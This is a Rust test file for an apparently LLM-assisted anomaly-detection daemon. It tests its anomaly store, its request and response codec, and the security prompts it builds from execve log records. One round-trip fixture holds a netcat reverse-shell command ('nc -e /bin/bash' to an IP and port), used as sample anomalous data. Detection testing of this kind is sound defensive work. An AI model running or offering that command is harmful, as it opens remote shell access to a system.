use sysrag::anomalies::AnomalyStore;
use sysrag::cli::{initial_request, latest_anomaly_id, Commands, DaemonClient};
use sysrag::codec::{encode_request, encode_response, parse_request, parse_response};
use sysrag::ipc::{
    build_security_prompt, handle_request_line, investigation_response, process_request,
    DaemonRequest, DaemonResponse, ServerAction,
};
use sysrag::report::AnomalyReport;

fn report(id: &str, pid: u32, command: &str) -> AnomalyReport {
    AnomalyReport {
        id: id.to_string(),
        timestamp: 1_700_000_000,
        pid,
        command: command.to_string(),
        similarity_score: 120_000,
        raw_log: format!("execve: pid={pid} uid=0 comm={command}"),
    }
}

fn filled_store() -> AnomalyStore {
    let mut store = AnomalyStore::new();
    for (i, id) in ["a", "b", "c", "d", "e"].iter().enumerate() {
        store.append(report(id, 100 + i as u32, "nc"));
    }
    store
}

#[test]
fn snapshot_tail_returns_most_recent_in_order() {
    let store = filled_store();
    let tail = store.snapshot_tail(3);
    let ids: Vec<&str> = tail.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(ids, vec!["c", "d", "e"]);
    assert!(store.snapshot_tail(0).is_empty());
    assert_eq!(store.snapshot_tail(50).len(), 5);
    assert_eq!(store.len(), 5);
}

#[test]
fn status_on_fresh_daemon_reports_empty_counters() {
    // End-to-end scenario: a freshly started daemon with three seeded
    // baseline commands and no processed events.
    let store = AnomalyStore::new();
    let action = process_request(&DaemonRequest::Status, &store, 12, 0, 3);
    match action {
        ServerAction::Reply(DaemonResponse::StatusOk {
            uptime_seconds,
            events_processed,
            db_size,
        }) => {
            assert_eq!(uptime_seconds, 12);
            assert_eq!(events_processed, 0);
            assert_eq!(db_size, 3);
        }
        _ => panic!("status must answer with StatusOk"),
    }
}

#[test]
fn get_anomalies_dispatch_uses_the_tail() {
    let store = filled_store();
    let action = process_request(&DaemonRequest::GetAnomalies { tail: 2 }, &store, 0, 9, 1);
    match action {
        ServerAction::Reply(DaemonResponse::AnomaliesList(list)) => {
            assert_eq!(list.len(), 2);
            assert_eq!(list[0].id, "d");
            assert_eq!(list[1].id, "e");
        }
        _ => panic!("expected an anomaly list"),
    }
}

#[test]
fn investigate_builds_a_prompt_from_the_record() {
    let store = filled_store();
    let req = DaemonRequest::Investigate { id: "b".to_string() };
    match process_request(&req, &store, 0, 0, 0) {
        ServerAction::RunInvestigation { prompt } => {
            assert!(prompt.contains("Command: nc"));
            assert!(prompt.contains("Pid: 101"));
            assert!(prompt.contains("Similarity score: 0.12"));
            assert!(prompt.contains("Timestamp: 1700000000"));
            assert!(prompt.contains("execve: pid=101 uid=0 comm=nc"));
        }
        _ => panic!("expected an investigation"),
    }
}

#[test]
fn investigate_unknown_id_falls_back_to_latest() {
    let store = filled_store();
    let found = store.find_for_investigation("nope").unwrap();
    assert_eq!(found.id, "e");
    let by_id = store.find_for_investigation("c").unwrap();
    assert_eq!(by_id.id, "c");
    assert!(AnomalyStore::new().find_for_investigation("x").is_none());
}

#[test]
fn investigate_on_empty_store_is_an_error() {
    let store = AnomalyStore::new();
    let req = DaemonRequest::Investigate { id: "b".to_string() };
    match process_request(&req, &store, 0, 0, 0) {
        ServerAction::Reply(DaemonResponse::Error(_)) => {}
        _ => panic!("no record to investigate"),
    }
}

#[test]
fn prompt_holds_every_field() {
    let prompt = build_security_prompt(&report("z", 7, "curl"));
    assert!(prompt.contains("Command: curl"));
    assert!(prompt.contains("Pid: 7"));
    assert!(prompt.contains("Raw log: execve: pid=7 uid=0 comm=curl"));
}

#[test]
fn malformed_request_yields_error_and_later_requests_still_work() {
    // End-to-end scenario: garbage bytes answer with Error; the connection
    // after it is served normally from the same state.
    let store = filled_store();
    match handle_request_line("{\"not\": \"this protocol\"}", &store, 0, 0, 0) {
        ServerAction::Reply(DaemonResponse::Error(m)) => assert_eq!(m, "invalid request"),
        _ => panic!("malformed text must answer Error"),
    }
    match handle_request_line("status", &store, 3, 4, 5) {
        ServerAction::Reply(DaemonResponse::StatusOk { uptime_seconds, .. }) => {
            assert_eq!(uptime_seconds, 3)
        }
        _ => panic!("a later well-formed request must still be served"),
    }
}

#[test]
fn request_wire_text_is_stable() {
    assert_eq!(encode_request(&DaemonRequest::Status), "status");
    assert_eq!(
        encode_request(&DaemonRequest::GetAnomalies { tail: 10 }),
        "get_anomalies tail=10"
    );
    assert_eq!(
        encode_request(&DaemonRequest::Investigate { id: "abc".to_string() }),
        "investigate id=3:abc"
    );
}

#[test]
fn requests_round_trip() {
    for req in [
        DaemonRequest::Status,
        DaemonRequest::GetAnomalies { tail: 0 },
        DaemonRequest::GetAnomalies { tail: 12345 },
        DaemonRequest::Investigate { id: String::new() },
        DaemonRequest::Investigate { id: "deadbeef id with spaces".to_string() },
    ] {
        let wire = encode_request(&req);
        let back = parse_request(&wire).expect("encoded requests parse");
        assert_eq!(encode_request(&back), wire);
    }
}

#[test]
fn bad_requests_are_rejected() {
    for bad in [
        "",
        "statusx",
        "get_anomalies tail=",
        "get_anomalies tail=007",
        "get_anomalies tail=9 extra",
        "investigate id=4:abc",
        "investigate id=abc",
        "STATUS",
    ] {
        assert!(parse_request(bad).is_none(), "{bad:?} must be rejected");
    }
}

#[test]
fn responses_round_trip() {
    let responses = vec![
        DaemonResponse::StatusOk { uptime_seconds: 3600, events_processed: 15420, db_size: 1024 },
        DaemonResponse::AnomaliesList(vec![]),
        DaemonResponse::AnomaliesList(vec![
            report("a b:c", 1, "nc -e /bin/bash 10.0.0.5 4444"),
            AnomalyReport {
                id: "n".to_string(),
                timestamp: 0,
                pid: 0,
                command: String::new(),
                similarity_score: -1_000_000,
                raw_log: "raw= with spaces and 7:digits".to_string(),
            },
        ]),
        DaemonResponse::InvestigationResult("Looks like a reverse shell.\nKill it.".to_string()),
        DaemonResponse::Error("LLM Analysis failed.".to_string()),
    ];
    for resp in responses {
        let wire = encode_response(&resp);
        let back = parse_response(&wire).expect("encoded responses parse");
        assert_eq!(encode_response(&back), wire);
    }
}

#[test]
fn response_wire_text_is_stable() {
    let resp = DaemonResponse::StatusOk { uptime_seconds: 1, events_processed: 2, db_size: 3 };
    assert_eq!(encode_response(&resp), "status_ok uptime=1 events=2 baseline=3");
    let listed = DaemonResponse::AnomaliesList(vec![report("x", 9, "sh")]);
    assert_eq!(
        encode_response(&listed),
        "anomalies n=1 id=1:x ts=1700000000 pid=9 cmd=2:sh score=120000 raw=27:execve: pid=9 uid=0 comm=sh"
    );
}

#[test]
fn bad_responses_are_rejected() {
    for bad in [
        "",
        "status_ok uptime=1 events=2",
        "anomalies n=1",
        "anomalies n=2 id=1:x ts=0 pid=0 cmd=0: score=0 raw=0:",
        "result 5:short extra",
        "error x",
    ] {
        assert!(parse_response(bad).is_none(), "{bad:?} must be rejected");
    }
}

#[test]
fn investigation_outcome_maps_to_a_reply() {
    match investigation_response(Some("all clear".to_string())) {
        DaemonResponse::InvestigationResult(t) => assert_eq!(t, "all clear"),
        _ => panic!(),
    }
    match investigation_response(None) {
        DaemonResponse::Error(m) => assert_eq!(m, "LLM Analysis failed."),
        _ => panic!(),
    }
}

#[test]
fn client_plans_its_first_request() {
    assert!(matches!(
        initial_request(&Commands::Status),
        DaemonRequest::Status
    ));
    assert!(matches!(
        initial_request(&Commands::Anomalies { tail: 7 }),
        DaemonRequest::GetAnomalies { tail: 7 }
    ));
    assert!(matches!(
        initial_request(&Commands::Investigate { id: None }),
        DaemonRequest::GetAnomalies { tail: 1 }
    ));
    match initial_request(&Commands::Investigate { id: Some("k".to_string()) }) {
        DaemonRequest::Investigate { id } => assert_eq!(id, "k"),
        _ => panic!(),
    }
}

#[test]
fn client_reads_the_latest_id_from_a_fetch() {
    let resp = DaemonResponse::AnomaliesList(vec![report("newest", 1, "nc")]);
    assert_eq!(latest_anomaly_id(&resp), Some("newest".to_string()));
    assert_eq!(latest_anomaly_id(&DaemonResponse::AnomaliesList(vec![])), None);
    assert_eq!(latest_anomaly_id(&DaemonResponse::Error("x".to_string())), None);
}

#[test]
fn client_handle_remembers_its_socket() {
    let client = DaemonClient::new("/tmp/sysrag.sock");
    assert_eq!(client.socket_path, "/tmp/sysrag.sock");
}

#[test]
fn store_length_never_decreases_across_appends_and_reads() {
    let mut store = AnomalyStore::new();
    let mut last_len = 0;
    for i in 0..20u32 {
        store.append(report(&format!("id-{i}"), i, "nc"));
        let _ = store.snapshot_tail(4);
        assert!(store.len() > last_len);
        last_len = store.len();
    }
    assert_eq!(store.len(), 20);
}
